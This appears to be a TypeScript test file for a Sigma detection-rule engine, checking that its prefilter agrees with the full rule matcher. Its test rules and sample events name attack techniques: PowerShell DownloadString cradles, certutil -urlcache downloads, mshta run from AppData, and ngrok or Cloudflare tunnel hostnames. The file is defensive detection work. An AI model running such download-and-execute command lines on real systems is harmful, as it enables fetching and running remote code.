/**
 * The rule-set prefilter (literal and numeric keys, groups that must all be found) against the
 * rule's own matcher: a rule set with prefilters must match exactly what it matches without.
 */
import { FieldTable } from './event-view';
import { rulePrefilter } from './prefilter';
import { SigmaRuleSet } from './ruleset';
import { inlineRule } from './testdata/inline';

/** Whether the rule matches each event, through rule sets with and without prefilter (which must agree). */
function verdicts(detection: string, events: Record<string, unknown>[]): boolean[] {
  const rule = inlineRule(detection);
  const fast = new SigmaRuleSet([rule], { routing: 'all' });
  const slow = new SigmaRuleSet([rule], { routing: 'all', prefilter: false });
  return events.map((e) => {
    const expected = slow.match(e).length === 1;
    expect([e, fast.match(e).length === 1]).toEqual([e, expected]);
    expect(rule.match(e)).toBe(expected);
    return expected;
  });
}

describe('numeric keys', () => {
  it('marks event-id rules by the number, read like the comparison reads it', () => {
    const det = 'sel:\n    EventID: 4624\n    LogonType: 3\ncondition: sel';
    const events = [
      { EventID: '4624', LogonType: '3' },
      { EventID: 4624, LogonType: 3 },
      { EventID: ['1', '4624'], LogonType: '3' },
      { EventID: ' 4624 ', LogonType: '3' },
      { EventID: '4625', LogonType: '3' },
      { EventID: 'abc', LogonType: '3' },
      { LogonType: '3' },
    ];
    expect(verdicts(det, events)).toEqual([true, true, true, true, false, false, false]);
  });

  it('lists of numbers and of CIDR ranges match any member', () => {
    const ports = 'sel:\n    DestinationPort:\n        - 888\n        - 999\ncondition: sel';
    expect(verdicts(ports, [{ DestinationPort: 999 }, { DestinationPort: '888' }, { DestinationPort: ['1', '999'] }, { DestinationPort: '443' }, {}])).toEqual([
      true,
      true,
      true,
      false,
      false,
    ]);
    const cidrs = "sel:\n    DestinationIp|cidr:\n        - 10.0.0.0/8\n        - 'fe80::/10'\ncondition: sel";
    const ips = ['10.1.2.3', '::ffff:10.1.2.3', 'fe80::1', '8.8.8.8', 'garbage'].map((DestinationIp) => ({ DestinationIp }));
    expect(verdicts(cidrs, [...ips, { DestinationIp: ['8.8.8.8', '10.0.0.1'] }])).toEqual([true, true, true, false, false, true]);
  });
});

describe('groups of keys', () => {
  const tunnel = "sel:\n    Initiated: 'true'\n    DestinationHostname|endswith:\n        - '.ngrok.io'\n        - '.trycloudflare.com'\ncondition: sel";

  it('keeps one group per AND-ed condition, the rarest (longest literals) first', () => {
    const table = new FieldTable();
    const groups = rulePrefilter(inlineRule(tunnel).tree, table);
    expect(groups?.map((g) => g.map((k) => (k.kind === 'literal' ? k.length : -1)))).toEqual([[9, 18], [4]]);
  });

  it('runs a rule only when every group is found, and matches as without prefilter', () => {
    const events = [
      { Initiated: 'true', DestinationHostname: 'a.ngrok.io' },
      { Initiated: 'true', DestinationHostname: 'www.google.com' },
      { Initiated: 'false', DestinationHostname: 'x.TryCloudflare.com' },
      { Initiated: 'TRUE', DestinationHostname: 'x.TryCloudflare.com' },
    ];
    expect(verdicts(tunnel, events)).toEqual([true, false, false, true]);
  });

  it('handles OR of selections, |all and negations', () => {
    const det = [
      'sel_a:',
      '    CommandLine|contains|all:',
      "        - ' -nop '",
      "        - 'downloadstring('",
      'sel_b:',
      "    Image|endswith: '\\certutil.exe'",
      "    CommandLine|contains: 'urlcache'",
      'filter:',
      "    User|contains: 'SYSTEM'",
      'condition: 1 of sel_* and not filter',
    ].join('\n');
    const events = [
      { CommandLine: 'powershell -NoP -nop iex (New-Object Net.WebClient).DownloadString(x)', User: 'alice' },
      { CommandLine: 'powershell -nop iex', User: 'alice' },
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -URLCache -f http://x/a a', User: 'bob' },
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a a', User: 'NT AUTHORITY\\SYSTEM' },
      { Image: 'C:\\tools\\other.exe', CommandLine: 'x -urlcache', User: 'bob' },
    ];
    expect(verdicts(det, events)).toEqual([true, false, true, false, false]);
  });

  it('keeps the group every branch of an OR requires instead of the union of their cheapest groups', () => {
    // SigmaHQ's "Suspicious Mshta.EXE Execution Patterns" shape: both branches need selection_img.
    const det = [
      'selection_img:',
      "    - Image|endswith: '\\mshta.exe'",
      "    - OriginalFileName: 'MSHTA.EXE'",
      'selection_susp:',
      "    ParentImage|endswith: '\\cmd.exe'",
      "    CommandLine|contains: '\\AppData\\Local\\'",
      'filter_img:',
      "    Image|startswith: 'C:\\Windows\\System32\\'",
      'condition: all of selection_* or (selection_img and not filter_img)',
    ].join('\n');
    const groups = rulePrefilter(inlineRule(det).tree, new FieldTable());
    expect(groups?.map((g) => g.map((k) => (k.kind === 'literal' ? k.length : -1)).sort())).toEqual([[10, 9].sort()]);
    const events = [
      { Image: 'C:\\Users\\a\\mshta.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'mshta C:\\Users\\a\\AppData\\Local\\x.hta' },
      { Image: 'C:\\Windows\\System32\\mshta.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'mshta C:\\Users\\a\\AppData\\Local\\x.hta' },
      { Image: 'C:\\Windows\\System32\\mshta.exe', ParentImage: 'C:\\Windows\\explorer.exe', CommandLine: 'mshta x.hta' },
      { Image: 'C:\\Windows\\System32\\cmd.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd C:\\Users\\a\\AppData\\Local\\x' },
      { Image: 'C:\\Temp\\x.exe', OriginalFileName: 'MSHTA.EXE', CommandLine: 'x' },
    ];
    expect(verdicts(det, events)).toEqual([true, true, false, false, true]);
  });

  it('finds long literals whatever their case (the trie holds a prefix, the rest is compared)', () => {
    const hash = 'SHA256=68A15A34C2E28B9B521A240B948634617D72AD619E3950BC6DC769E60A0C3CF2';
    const det = `sel:\n    Hashes|contains: '${hash}'\ncondition: sel`;
    const events = [`MD5=X,${hash},IMPHASH=Y`, hash.toLowerCase(), hash.slice(0, -1) + '3', `${hash.slice(0, 20)}É${hash.slice(20)}`].map((Hashes) => ({ Hashes }));
    expect(verdicts(det, events)).toEqual([true, true, false, false]);
  });
});
